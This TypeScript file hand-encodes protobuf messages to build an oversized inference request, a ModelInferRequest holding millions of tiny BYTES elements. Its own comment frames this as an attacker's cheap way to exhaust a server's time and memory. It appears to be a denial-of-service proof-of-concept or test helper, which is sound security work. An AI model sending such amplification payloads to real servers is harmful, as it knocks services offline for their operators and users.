// Protocol buffers written by hand, for requests with millions of repeated elements: building those as
// objects and encoding them with protobufjs would cost the attacker more time and memory than the server.

function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  while (rest >= 0x80) {
    bytes.push((rest % 0x80) | 0x80);
    rest = Math.floor(rest / 0x80);
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** A length-delimited field (wire type 2): strings, bytes, embedded messages, packed repeated scalars. */
export function lengthDelimited(field: number, payload: Buffer): Buffer {
  return Buffer.concat([varint((field << 3) | 2), varint(payload.length), payload]);
}

export function stringField(field: number, text: string): Buffer {
  return lengthDelimited(field, Buffer.from(text, 'utf8'));
}

/**
 * A ModelInferRequest whose one BYTES input of shape [count] holds `count` one-byte elements in
 * `contents.bytes_contents`: 3 bytes on the wire each, one Buffer each once decoded.
 */
export function modelInferWithBytesContents(model: string, input: string, count: number): Buffer {
  const element = lengthDelimited(8, Buffer.from('a'));
  const contents = Buffer.alloc(element.length * count);
  for (let at = 0; at < contents.length; at += element.length) element.copy(contents, at);
  const tensor = Buffer.concat([
    stringField(1, input),
    stringField(2, 'BYTES'),
    lengthDelimited(3, varint(count)),
    lengthDelimited(5, contents),
  ]);
  return Buffer.concat([stringField(1, model), lengthDelimited(5, tensor)]);
}
